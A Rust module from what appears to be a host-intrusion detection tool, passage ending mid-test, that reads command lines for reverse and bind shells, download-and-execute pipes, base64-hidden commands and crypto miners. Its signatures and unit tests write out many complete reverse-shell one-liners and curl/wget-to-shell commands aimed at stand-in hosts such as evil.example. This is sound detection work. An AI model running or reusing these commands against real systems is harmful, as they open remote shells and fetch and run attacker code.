//! One command line read for what it does: a reverse or bind shell and its callback, a
//! download piped into a shell, base64-wrapped commands, a miner by name or wallet, the
//! programs it runs and from which directories.

use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

use crate::model::{IocKind, IocRef};

/// A reverse (or bind) shell seen in a command line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RevShell {
    /// Technique family: `bash /dev/tcp`, `netcat -e`, `socat exec`, `python socket`...
    pub family: &'static str,
    /// The attacker's `host:port`, when the command names it.
    pub callback: Option<String>,
    /// A listening (bind) shell rather than a connect-back one.
    pub bind: bool,
}

/// One reverse-shell signature: the command must match `re` (and `needs`, when set); the
/// callback is read from `host_port` (groups `h` and `p`).
struct Sig {
    family: &'static str,
    re: &'static str,
    needs: Option<&'static str>,
    /// Groups `h` (or `h2`) and `p` (or `p2`); a bind shell's has only the port.
    host_port: Option<&'static str>,
    bind: bool,
}

/// Reverse-shell signatures by language and tool (netcat and socat are read by argument).
const SIGS: &[Sig] = &[
    Sig {
        family: "bash /dev/tcp",
        re: r"/dev/(?:tcp|udp)/[^/\s]+/\d{1,5}",
        needs: None,
        host_port: Some(r"/dev/(?:tcp|udp)/(?P<h>[^/\s]+)/(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "awk /inet",
        re: r"/inet/(?:tcp|udp)/\d+/[^/\s]+/\d{1,5}",
        needs: None,
        host_port: Some(r"/inet/(?:tcp|udp)/\d+/(?P<h>[^/\s]+)/(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "socket bind shell",
        re: r"\.bind\(\(|socket_bind\(|TCPServer\.new|bind\(S,",
        needs: Some(r"(?i)accept"),
        host_port: Some(
            r#"\.bind\(\(\s*["'][^"']*["']\s*,\s*(?P<p>\d{1,5})|socket_bind\([^,]+,\s*["'][^"']*["']\s*,\s*(?P<p2>\d{1,5})|TCPServer\.new\(\s*(?:["'][^"']*["']\s*,\s*)?(?P<p3>\d{1,5})|\$p\s*=\s*(?P<p4>\d{1,5})"#,
        ),
        bind: true,
    },
    Sig {
        family: "python socket",
        re: r"(?i)socket",
        needs: Some(r"(?i)\.connect\(\(|connect_ex\(\("),
        host_port: Some(r#"connect(?:_ex)?\(\(\s*["'](?P<h>[^"']+)["']\s*,\s*(?P<p>\d{1,5})"#),
        bind: false,
    },
    Sig {
        family: "perl socket",
        re: r"(?i)use Socket|IO::Socket|-MIO\b|-MSocket",
        needs: Some(r"(?i)exec|system|open\(STD|fdopen"),
        host_port: Some(
            r#"(?:\$i\s*=\s*["'](?P<h>[^"']+)["'].*?\$p\s*=\s*(?P<p>\d{1,5}))|PeerAddr\s*(?:,|=>)\s*["'](?P<h2>[^"':]+):(?P<p2>\d{1,5})"#,
        ),
        bind: false,
    },
    Sig {
        family: "php fsockopen",
        re: r"(?i)fsockopen\s*\(|stream_socket_client\s*\(",
        needs: None,
        host_port: Some(
            r#"(?i)fsockopen\s*\(\s*["'](?:(?:tcp|udp)://)?(?P<h>[^"']+)["']\s*,\s*(?P<p>\d{1,5})|stream_socket_client\s*\(\s*["'](?:tcp|udp)://(?P<h2>[^:"']+):(?P<p2>\d{1,5})"#,
        ),
        bind: false,
    },
    Sig {
        family: "ruby TCPSocket",
        re: r"TCPSocket\.(?:new|open)|-rsocket",
        needs: Some(r"(?i)exec|spawn|popen|system|/bin/"),
        host_port: Some(r#"TCPSocket\.(?:new|open)\(\s*["'](?P<h>[^"']+)["']\s*,\s*["']?(?P<p>\d{1,5})"#),
        bind: false,
    },
    Sig {
        family: "node net.Socket",
        re: r"net\.Socket|require\(['\x22]net['\x22]\)",
        needs: Some(r"child_process|spawn|exec"),
        host_port: Some(r#"connect\(\s*(?P<p>\d{1,5})\s*,\s*["'](?P<h>[^"']+)["']"#),
        bind: false,
    },
    Sig {
        family: "lua socket",
        re: r"socket\.tcp\(\)|require\(['\x22]socket['\x22]\)",
        needs: Some(r"(?i)execute|popen|/bin/"),
        host_port: Some(r#"connect\(\s*["'](?P<h>[^"']+)["']\s*,\s*["']?(?P<p>\d{1,5})"#),
        bind: false,
    },
    Sig {
        family: "TCPClient",
        re: r"(?i)Net\.Sockets\.TCPClient|TCPClient\(",
        needs: None,
        host_port: Some(r#"(?i)TCPClient\(\s*["'](?P<h>[^"']+)["']\s*,\s*(?P<p>\d{1,5})"#),
        bind: false,
    },
    Sig {
        family: "zsh ztcp",
        re: r"\bztcp\s",
        needs: None,
        host_port: Some(r"\bztcp\s+(?P<h>[^\s;&|]+)\s+(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "telnet pipe",
        re: r"\btelnet\s+\S+\s+\d+",
        needs: Some(r"\|\s*(?:/\S*/)?(?:ba|da|z|k|a)?sh\b|mkfifo|mknod"),
        host_port: Some(r"\btelnet\s+(?P<h>[^\s;&|]+)\s+(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "openssl s_client",
        re: r"\bs_client\b",
        needs: Some(r"\|\s*(?:/\S*/)?(?:ba|da|z|k|a)?sh\b|mkfifo|mknod|-i\b"),
        host_port: Some(r"-connect\s+(?P<h>[^\s:]+):(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "xterm display",
        re: r"\bxterm\s+-display\s",
        needs: None,
        host_port: Some(r"-display\s+(?P<h>[^\s:]+):(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "go net.Dial",
        re: r"net\.Dial\(",
        needs: Some(r"exec\.Command"),
        host_port: Some(r#"net\.Dial\(\s*"(?:tcp|udp)"\s*,\s*"(?P<h>[^"]+):(?P<p>\d{1,5})""#),
        bind: false,
    },
    Sig {
        family: "java Socket",
        re: r"new\s+(?:java\.net\.)?Socket\(",
        needs: Some(r"exec|ProcessBuilder"),
        host_port: Some(r#"Socket\(\s*"(?P<h>[^"]+)"\s*,\s*(?P<p>\d{1,5})"#),
        bind: false,
    },
    Sig {
        family: "curl telnet",
        re: r"telnet://[^\s/:]+:\d{1,5}",
        needs: Some(r"\|\s*(?:/\S*/)?(?:ba|da|z|k|a)?sh\b|mkfifo|mknod"),
        host_port: Some(r"telnet://(?P<h>[^\s/:]+):(?P<p>\d{1,5})"),
        bind: false,
    },
    Sig {
        family: "rustcat",
        re: r"\brcat\s+connect\s",
        needs: None,
        host_port: Some(r"\brcat\s+connect\s+(?:-\S+\s+\S+\s+)*(?P<h>[^\s-]\S*)\s+(?P<p>\d{1,5})"),
        bind: false,
    },
];

struct Compiled {
    family: &'static str,
    re: Regex,
    needs: Option<Regex>,
    host_port: Option<Regex>,
    bind: bool,
}

static COMPILED: LazyLock<Vec<Compiled>> = LazyLock::new(|| {
    SIGS.iter()
        .map(|s| Compiled {
            family: s.family,
            re: re(s.re),
            needs: s.needs.map(re),
            host_port: s.host_port.map(re),
            bind: s.bind,
        })
        .collect()
});

/// Compile one of this module's literal patterns (a bad one fails every unit test).
pub(super) fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("built-in pattern compiles")
}

static SHELL_PIPE: LazyLock<Regex> = LazyLock::new(|| {
    re(r"\|\s*(?:/\S*/)?(?:ba|da|z|k|a|c|tc)?sh\b|\b(?:ba|da|z|k|a)?sh\s+-i\b|mkfifo|mknod")
});

static QUOTED: LazyLock<Regex> = LazyLock::new(|| re(r#"'([^']+)'|"([^"]+)""#));

/// The reverse or bind shell in `cmd`, if any.
pub(crate) fn reverse_shell(cmd: &str) -> Option<RevShell> {
    // netcat and socat are read word by word; skip that work when neither is named.
    if cmd.contains("nc") || cmd.contains("netcat") || cmd.contains("socat") {
        if let Some(r) = netcat(cmd).or_else(|| socat(cmd)).or_else(|| quoted_netcat(cmd, 3)) {
            return Some(r);
        }
    }
    for c in COMPILED.iter() {
        if !c.re.is_match(cmd) || c.needs.as_ref().is_some_and(|n| !n.is_match(cmd)) {
            continue;
        }
        let callback = c
            .host_port
            .as_ref()
            .and_then(|r| host_port(r, cmd))
            .or_else(|| host_port(&HOST_VARS, cmd))
            .or_else(|| host_port(&IP_PORT, cmd));
        if c.family == "bash /dev/tcp"
            && callback.as_deref().is_some_and(is_loopback)
            && !SHELL_PIPE.is_match(cmd)
        {
            // `bash -c '</dev/tcp/127.0.0.1/8080'` is a health check, not a shell.
            if !cmd.contains(">&") && !cmd.contains("<&") {
                continue;
            }
        }
        return Some(RevShell { family: c.family, callback, bind: c.bind });
    }
    None
}

/// netcat or socat inside a string of another language (`exec('nc -e /bin/sh h p')`),
/// looking `depth` quote levels deep.
fn quoted_netcat(cmd: &str, depth: u8) -> Option<RevShell> {
    if depth == 0 {
        return None;
    }
    QUOTED.captures_iter(cmd).find_map(|q| {
        let inner = q.get(1).or_else(|| q.get(2))?.as_str();
        netcat(inner).or_else(|| socat(inner)).or_else(|| quoted_netcat(inner, depth - 1))
    })
}

fn host_port(r: &Regex, cmd: &str) -> Option<String> {
    let c = r.captures(cmd)?;
    let group = |names: &[&str]| names.iter().find_map(|n| c.name(n)).map(|m| m.as_str());
    let p = group(&["p", "p2", "p3", "p4"])?;
    let h = group(&["h", "h2"]).unwrap_or("0.0.0.0");
    Some(join_host_port(h, p))
}

fn join_host_port(h: &str, p: &str) -> String {
    if h.contains(':') && !h.starts_with('[') {
        format!("[{h}]:{p}")
    } else {
        format!("{h}:{p}")
    }
}

static IP_PORT: LazyLock<Regex> =
    LazyLock::new(|| re(r#"\b(?P<h>(?:\d{1,3}\.){3}\d{1,3})["']?\s*(?:[:,]|\s)\s*["']?(?P<p>\d{1,5})\b"#));

/// Host and port set in variables first (`RHOST="h";RPORT=p`, `$LHOST = "h"; $LPORT = p`,
/// `String host="h";int port=p`).
static HOST_VARS: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"(?i)\b[rl]?host\s*=\s*["']?(?P<h>[^"';\s]+)["']?\s*;.*?\b[rl]?port\s*=\s*["']?(?P<p>\d{1,5})"#)
});

fn is_loopback(hp: &str) -> bool {
    let h = hp.rsplit_once(':').map(|(h, _)| h).unwrap_or(hp);
    h.starts_with("127.") || h == "localhost" || h == "[::1]" || h == "0.0.0.0"
}

/// Words of `cmd`, split on whitespace and shell separators, quotes dropped.
fn segments(cmd: &str) -> Vec<Vec<String>> {
    cmd.split(['|', ';', '&', '\n'])
        .map(|seg| {
            seg.split_whitespace()
                .map(|w| w.trim_matches(|c: char| matches!(c, '\'' | '"' | '(' | ')' | '`')).to_string())
                .collect()
        })
        .filter(|v: &Vec<String>| !v.is_empty())
        .collect()
}

fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// netcat family: `-e`/`-c`/`--exec`/`--sh-exec`, or a pipe/fifo through a shell.
fn netcat(cmd: &str) -> Option<RevShell> {
    let piped = SHELL_PIPE.is_match(cmd);
    for seg in segments(cmd) {
        let Some(at) = seg.iter().position(|w| {
            matches!(
                base(w),
                "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "pwncat" | "nc.exe" | "ncat.exe"
            )
        }) else {
            continue;
        };
        let (mut exec, mut listen, mut port_opt) = (false, false, None);
        let mut positional = Vec::new();
        let mut words = seg[at + 1..].iter();
        while let Some(w) = words.next() {
            if let Some(long) = w.strip_prefix("--") {
                let name = long.split('=').next().unwrap_or("");
                match name {
                    "exec" | "sh-exec" | "lua-exec" => exec = true,
                    "listen" => listen = true,
                    _ => {}
                }
                if matches!(name, "exec" | "sh-exec" | "lua-exec" | "source-port" | "wait")
                    && !long.contains('=')
                {
                    words.next();
                }
            } else if let Some(short) = w.strip_prefix('-').filter(|s| !s.is_empty()) {
                listen |= short.contains('l');
                // The option letter that takes a value may be last in a cluster (`-lvnp 4444`)
                // or carry it attached (`-e/bin/sh`).
                for (i, c) in short.char_indices() {
                    if matches!(c, 'e' | 'c' | 'p' | 's' | 'w' | 'i' | 'q' | 'x' | 'X') {
                        exec |= matches!(c, 'e' | 'c');
                        let attached = &short[i + 1..];
                        let value =
                            if attached.is_empty() { words.next().cloned() } else { Some(attached.into()) };
                        if c == 'p' {
                            port_opt = value;
                        }
                        break;
                    }
                }
            } else {
                positional.push(w.clone());
            }
        }
        if !(exec || piped) {
            continue;
        }
        if listen {
            let port = port_opt.or_else(|| positional.last().cloned());
            return Some(RevShell {
                family: "netcat bind shell",
                callback: port.map(|p| format!("0.0.0.0:{p}")),
                bind: true,
            });
        }
        let callback = match &positional[..] {
            [h, p, ..] if p.bytes().all(|b| b.is_ascii_digit()) => Some(join_host_port(h, p)),
            _ => None,
        };
        return Some(RevShell {
            family: if exec { "netcat -e" } else { "netcat pipe" },
            callback,
            bind: false,
        });
    }
    None
}

static SOCAT_CONNECT: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:tcp[46]?(?:-connect)?|udp[46]?(?:-connect)?|openssl(?:-connect)?|ssl):(?P<h>[^\s:,]+):(?P<p>\d{1,5})",
    )
});
static SOCAT_LISTEN: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\b(?:tcp[46]?-listen|tcp-l|udp-listen|openssl-listen):(?P<p>\d{1,5})"));

/// socat with an `exec:`/`system:` address: connecting out (reverse) or listening (bind).
fn socat(cmd: &str) -> Option<RevShell> {
    let lower = cmd.to_ascii_lowercase();
    if !segments(cmd).iter().any(|s| s.iter().any(|w| base(w) == "socat")) {
        return None;
    }
    if !(lower.contains("exec:") || lower.contains("system:")) {
        return None;
    }
    if let Some(c) = SOCAT_CONNECT.captures(cmd) {
        return Some(RevShell {
            family: "socat exec",
            callback: Some(join_host_port(&c["h"], &c["p"])),
            bind: false,
        });
    }
    let port = SOCAT_LISTEN.captures(cmd).map(|c| format!("0.0.0.0:{}", &c["p"]));
    Some(RevShell { family: "socat bind shell", callback: port, bind: true })
}

static DOWNLOAD_PIPE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:curl|wget|fetch|lwp-download|lwp-request|GET)\b[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl|php|ruby)\b",
    )
});
static DOWNLOADER: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)\b(?:curl|wget|tftp|fetch)\b"));
static CHMOD_X: LazyLock<Regex> =
    LazyLock::new(|| re(r"\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rw]*x|[0-7]?[0-7]*[1357][0-7]{0,2})\b"));
static URL: LazyLock<Regex> = LazyLock::new(|| re(r#"(?i)\b(?:https?|ftp|tftp)://[^\s'"|;&)<>]+"#));

/// A shell upgraded to a pseudo-terminal: `python -c 'import pty; pty.spawn("/bin/bash")'`,
/// `script -qc /bin/bash /dev/null`, `socat exec:'bash -li',pty,stderr,setsid ...`.
pub(crate) fn tty_upgrade(cmd: &str) -> Option<&'static str> {
    let c = cmd.to_ascii_lowercase();
    let shell = ["sh", "bash", "zsh", "ash", "dash"].iter().any(|s| {
        c.contains(&format!("/bin/{s}"))
            || c.contains(&format!("\"{s}"))
            || c.contains(&format!("'{s}"))
            || c.contains(&format!(" {s}"))
    });
    if c.contains("pty.spawn(") || (c.contains("import pty") && c.contains("spawn")) {
        return Some("python pty.spawn");
    }
    let words: Vec<&str> = c.split_whitespace().collect();
    let prog = words.first().map(|w| w.rsplit('/').next().unwrap_or(w)).unwrap_or("");
    if prog == "script" && shell && words.iter().any(|w| w.starts_with('-') && w.contains('c')) {
        return Some("script -c with a shell");
    }
    if prog == "socat" && c.contains("pty") && shell {
        return Some("socat with a pty");
    }
    None
}

/// A download run straight away: piped into a shell or interpreter, or saved then made
/// executable. Returns the URL (or `?` when the command does not name one).
pub(crate) fn download_exec(cmd: &str) -> Option<String> {
    let piped = DOWNLOAD_PIPE.is_match(cmd);
    if !(piped || DOWNLOADER.is_match(cmd) && CHMOD_X.is_match(cmd)) {
        return None;
    }
    Some(URL.find(cmd).map(|m| m.as_str().to_string()).unwrap_or_else(|| "?".into()))
}

static B64_DECODE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)base64\s*(?:,\s*)?(?:-d\b|--decode|-D\b|-di\b)|b64decode|decode_base64|base64_decode|FromBase64String|\batob\(|base64\.decode|Base64\.decode",
    )
});
static B64_BLOB: LazyLock<Regex> = LazyLock::new(|| re(r"[A-Za-z0-9+/_-]{16,}={0,2}"));

/// Commands hidden in base64 inside `cmd` (`echo <b64> | base64 -d | bash`,
/// `bash -c {echo,<b64>}|{base64,-d}|{bash,-i}`, `b64decode('...')`), decoded.
pub(crate) fn base64_payloads(cmd: &str) -> Vec<String> {
    if !B64_DECODE.is_match(cmd) {
        return Vec::new();
    }
    let mut out = Vec::new();
    for m in B64_BLOB.find_iter(cmd) {
        if let Some(text) = decode_b64(m.as_str()) {
            out.push(text);
        }
    }
    out
}

fn decode_b64(s: &str) -> Option<String> {
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let t = s.trim_end_matches('=');
    let bytes = STANDARD_NO_PAD.decode(t).or_else(|_| URL_SAFE_NO_PAD.decode(t)).ok()?;
    let text = std::str::from_utf8(&bytes).ok()?;
    let printable = text.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r')).count();
    let words = text.contains(' ') || text.contains('/') || text.contains(';');
    (printable * 10 >= text.chars().count() * 9 && words).then(|| text.to_string())
}

/// Miner program names (base names, lower case, version suffix removed).
const MINER_NAMES: &[&str] = &[
    "xmrig",
    "xmrig-notls",
    "xmr-stak",
    "xmr-stak-cpu",
    "xmr-stak-rx",
    "kdevtmpfsi",
    "kinsing",
    "minerd",
    "cpuminer",
    "cpuminer-multi",
    "cpuminer-opt",
    "ccminer",
    "ethminer",
    "nbminer",
    "t-rex",
    "lolminer",
    "phoenixminer",
    "nanominer",
    "srbminer",
    "srbminer-multi",
    "teamredminer",
    "gminer",
    "bminer",
    "xmr-proxy",
];

/// Command-line marks of a miner (lower case).
const MINER_MARKS: &[&str] = &[
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum+tls://",
    "stratum2+tcp://",
    "--donate-level",
    "--cpu-max-threads-hint",
    "--randomx",
    "-a cryptonight",
    "--algo=cryptonight",
    "-a rx/0",
    "--algo=rx/0",
    "--coin=monero",
    "--coin monero",
    "pool.minexmr.com",
    "supportxmr.com",
    "xmrpool.eu",
    "nanopool.org",
    "moneroocean.stream",
    "c3pool.com",
    "hashvault.pro",
    "minergate.com",
    "nicehash.com",
    "unmineable.com",
    "herominers.com",
    "f2pool.com",
    "2miners.com",
];

pub(super) static XMR_WALLET: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?-u:\b)4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}(?-u:\b)"));

/// Why `cmd` (program `exe`) looks like a coin miner, if it does.
pub(crate) fn miner(exe: &str, cmd: &str) -> Option<String> {
    let name = normalize(exe);
    if MINER_NAMES.contains(&name.as_str()) {
        return Some(format!("miner program `{exe}`"));
    }
    let lower = cmd.to_ascii_lowercase();
    if let Some(m) = MINER_MARKS.iter().find(|m| lower.contains(*m)) {
        return Some(format!("miner option/pool `{m}`"));
    }
    XMR_WALLET.is_match(cmd).then(|| "Monero wallet address on the command line".into())
}

/// The indicators of one endpoint a command names (`host:port`, `[v6]:port`, a bare host):
/// the host as `ip` or `domain`, the port as `port`, each with `role`. Nothing for what is
/// not a host (an unresolved `$H`, `0.0.0.0`).
pub(crate) fn endpoint_iocs(endpoint: &str, role: &'static str) -> Vec<IocRef> {
    let (host, port) = match endpoint.rsplit_once(':') {
        Some((h, p))
            if !p.is_empty()
                && p.bytes().all(|b| b.is_ascii_digit())
                && (!h.contains(':') || h.ends_with(']')) =>
        {
            (h, Some(p))
        }
        _ => (endpoint, None),
    };
    let host = host.trim_start_matches('[').trim_end_matches(']').trim_end_matches('.').to_ascii_lowercase();
    let ip = host.parse::<std::net::IpAddr>().ok();
    let name = host.contains('.')
        && host.bytes().any(|b| b.is_ascii_alphabetic())
        && host
            .split('.')
            .all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'));
    let kind = match ip {
        Some(ip) if ip.is_unspecified() => return vec![],
        Some(_) => IocKind::Ip,
        None if name => IocKind::Domain,
        None => return vec![],
    };
    let mut out = vec![IocRef { kind, value: host, role }];
    if let Some(p) = port.and_then(|p| p.parse::<u16>().ok()).filter(|p| *p > 0) {
        out.push(IocRef { kind: IocKind::Port, value: p.to_string(), role });
    }
    out
}

/// Lower-case program name without a version suffix: `python3.11` -> `python`,
/// `php-fpm8.2` -> `php-fpm`.
pub(crate) fn normalize(exe: &str) -> String {
    let lower = exe.to_ascii_lowercase();
    let lower = lower.strip_suffix(".exe").unwrap_or(&lower);
    let trimmed = lower.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if trimmed.is_empty() {
        lower.to_string()
    } else {
        trimmed.to_string()
    }
}

/// Directories any user can write to, where dropped tools are run from.
const WRITABLE_DIRS: &[&str] =
    &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/var/run/shm/", "/dev/mqueue/"];

/// Dot-directories where legitimate tool chains install programs.
const TOOL_DOT_DIRS: &[&str] = &[
    ".local",
    ".nvm",
    ".venv",
    ".virtualenvs",
    ".pyenv",
    ".rbenv",
    ".cargo",
    ".rustup",
    ".sdkman",
    ".asdf",
    ".npm",
    ".yarn",
    ".m2",
    ".gradle",
    ".dotnet",
    ".bun",
    ".deno",
    ".volta",
    ".vscode-server",
    ".cache",
    ".config",
    ".linuxbrew",
    ".jenv",
    ".goenv",
    ".nodenv",
    ".pub-cache",
    ".gem",
];

/// Interpreters whose first non-option argument is the program really run.
const INTERPRETERS: &[&str] =
    &["sh", "bash", "dash", "ash", "zsh", "ksh", "python", "perl", "php", "ruby", "node"];

/// The executable path `cmd` runs: argv0, or the script an interpreter runs.
pub(crate) fn executed_paths(cmd: &str) -> Vec<String> {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let Some(argv0) = words.first() else { return vec![] };
    let argv0 = argv0.trim_matches(|c| c == '\'' || c == '"').trim_start_matches('-');
    let mut out = vec![argv0.to_string()];
    if INTERPRETERS.contains(&normalize(base(argv0)).as_str()) {
        if let Some(script) = words[1..].iter().find(|w| !w.starts_with('-')) {
            if script.contains('/') && !words[1..].iter().any(|w| matches!(*w, "-c" | "-e" | "-r")) {
                out.push(script.trim_matches(|c| c == '\'' || c == '"').to_string());
            }
        }
    }
    out
}

/// The writable directory `path` lies in, if any.
pub(crate) fn in_writable_dir(path: &str) -> Option<&'static str> {
    WRITABLE_DIRS.iter().find(|d| path.starts_with(*d)).copied()
}

/// The hidden directory component of `path` (`/root/.x/miner` -> `.x`), tool dirs excepted.
pub(crate) fn hidden_dir(path: &str) -> Option<String> {
    let parts: Vec<&str> = path.split('/').collect();
    let dirs = parts.get(..parts.len().saturating_sub(1))?;
    dirs.iter()
        .find(|c| c.starts_with('.') && **c != "." && **c != ".." && !TOOL_DOT_DIRS.contains(c))
        .map(|c| c.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shells_with_callbacks() {
        let t: &[(&str, &str, Option<&str>)] = &[
            ("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "bash /dev/tcp", Some("10.0.0.5:4444")),
            (
                "0<&196;exec 196<>/dev/tcp/evil.example/53; sh <&196 >&196 2>&196",
                "bash /dev/tcp",
                Some("evil.example:53"),
            ),
            ("nc -e /bin/sh 10.0.0.1 4242", "netcat -e", Some("10.0.0.1:4242")),
            ("ncat 10.0.0.1 4242 --exec /bin/bash", "netcat -e", Some("10.0.0.1:4242")),
            ("/usr/bin/nc.traditional -e/bin/sh 10.0.0.1 4242", "netcat -e", Some("10.0.0.1:4242")),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
                "netcat pipe",
                Some("10.0.0.1:4242"),
            ),
            ("nc -lvnp 4444 -e /bin/sh", "netcat bind shell", Some("0.0.0.0:4444")),
            (
                "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
                "socat exec",
                Some("10.0.0.1:4242"),
            ),
            ("socat TCP4:evil.example:443 EXEC:/bin/sh", "socat exec", Some("evil.example:443")),
            (
                r#"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#,
                "python socket",
                Some("10.0.0.1:4242"),
            ),
            (
                r#"perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'"#,
                "perl socket",
                Some("10.0.0.1:4242"),
            ),
            (
                r#"php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'"#,
                "php fsockopen",
                Some("10.0.0.1:4242"),
            ),
            (
                r#"ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'"#,
                "ruby TCPSocket",
                Some("10.0.0.1:4242"),
            ),
            (
                r#"awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) {}}' /dev/null"#,
                "awk /inet",
                Some("10.0.0.1:4242"),
            ),
            (
                r#"export RHOST="10.0.0.9";export RPORT=53;python -c 'import socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));pty.spawn("sh")'"#,
                "python socket",
                Some("10.0.0.9:53"),
            ),
            (
                r#"node -e "require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')""#,
                "netcat -e",
                Some("10.0.0.1:4242"),
            ),
            (
                r#"ruby -rsocket -e 'f=TCPServer.new(9001); s=f.accept; exec "/bin/sh -i"'"#,
                "socket bind shell",
                Some("0.0.0.0:9001"),
            ),
            (
                "C='curl -Ns telnet://10.0.0.1:4242'; $C </dev/null 2>&1 | /bin/sh 2>&1 | $C",
                "curl telnet",
                Some("10.0.0.1:4242"),
            ),
        ];
        for (cmd, family, cb) in t {
            let r = reverse_shell(cmd).unwrap_or_else(|| panic!("missed: {cmd}"));
            assert_eq!((r.family, r.callback.as_deref()), (*family, *cb), "{cmd}");
        }
    }

    #[test]
    fn benign_commands_are_not_reverse_shells() {
        for cmd in [
            "nginx: worker process",
            "bash -c '</dev/tcp/127.0.0.1/8080'",
            "nc -z db 5432",
            "curl -fsS http://localhost:8080/health",
            "python3 -m http.server 8000",
            "socat TCP-LISTEN:8080,fork TCP:backend:80",
            "/usr/bin/java -Djava.net.preferIPv4Stack=true -jar app.jar",
            "postgres: checkpointer",
        ] {
            assert_eq!(reverse_shell(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn downloads_run_at_once() {
        let t = [
            ("sh -c curl -fsSL http://1.2.3.4/x.sh | sh", Some("http://1.2.3.4/x.sh")),
            ("wget -qO- https://evil.example/i | bash -s", Some("https://evil.example/i")),
            ("wget http://1.2.3.4/k -O /tmp/k; chmod +x /tmp/k; /tmp/k", Some("http://1.2.3.4/k")),
            ("curl -o /tmp/m http://x/m && chmod 777 /tmp/m", Some("http://x/m")),
            ("curl -fsS http://localhost:8080/health", None),
            ("chmod +x /entrypoint.sh", None),
        ];
        for (cmd, want) in t {
            assert_eq!(download_exec(cmd).as_deref(), want, "{cmd}");
        }
    }

    #[test]
    fn base64_wrapped_commands_are_decoded() {
        let b64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDQ0IDA+JjE=";
        let t = [
            format!("bash -c {{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}"),
            format!("sh -c echo {b64} | base64 -d | bash"),
            format!("sh -c echo {b64}|base64 --decode|sh"),
        ];
        for cmd in t {
            assert_eq!(base64_payloads(&cmd), ["bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"], "{cmd}");
        }
        assert!(base64_payloads(&format!("echo {b64}")).is_empty());
        assert!(base64_payloads("base64 -d /tmp/AAAAAAAAAAAAAAAAAAAAAAAAAAAA").is_empty());
    }

    #[test]
    fn endpoints_as_indicators() {
        let got = |e: &str| -> Vec<(IocKind, String)> {
            endpoint_iocs(e, "callback").into_iter().map(|i| (i.kind, i.value)).collect()
        };
        assert_eq!(
            got("203.0.113.9:4444"),
            [(IocKind::Ip, "203.0.113.9".into()), (IocKind::Port, "4444".into())]
        );
        assert_eq!(
            got("Evil.Example:53"),
            [(IocKind::Domain, "evil.example".into()), (IocKind::Port, "53".into())]
        );
        assert_eq!(
            got("[2001:db8::1]:443"),
            [(IocKind::Ip, "2001:db8::1".into()), (IocKind::Port, "443".into())]
        );
        assert_eq!(got("2001:db8::1"), [(IocKind::Ip, "2001:db8::1".into())]);
        assert!(got("$H:$P").is_empty());
        assert!(got("0.0.0.0:4444").is_empty());
        assert!(got("db:5432").is_empty(), "a single-label name is no indicator");
    }

    #[test]
    fn miners_paths_and_names() {
        assert!(miner("xmrig", "/tmp/xmrig").is_some());
        assert!(miner("kswapd0", "./kswapd0 -o stratum+tcp://pool.example:3333 -u x").is_some());
        assert!(miner("node", "node server.js").is_none());
        assert_eq!(normalize("python3.11"), "python");
        assert_eq!(normalize("php-fpm8.2"), "php-fpm");
        assert_eq!(normalize("W3WP.exe"), "w3wp");
        assert_eq!(executed_paths("sh /tmp/x.sh"), ["sh", "/tmp/x.sh"]);
        assert_eq!(executed_paths("sh -c /tmp/x.sh"), ["sh"]);
        assert_eq!(in_writable_dir("/dev/shm/.x/y"), Some("/dev/shm/"));
        assert_eq!(hidden_dir("/root/.x/miner").as_deref(), Some(".x"));
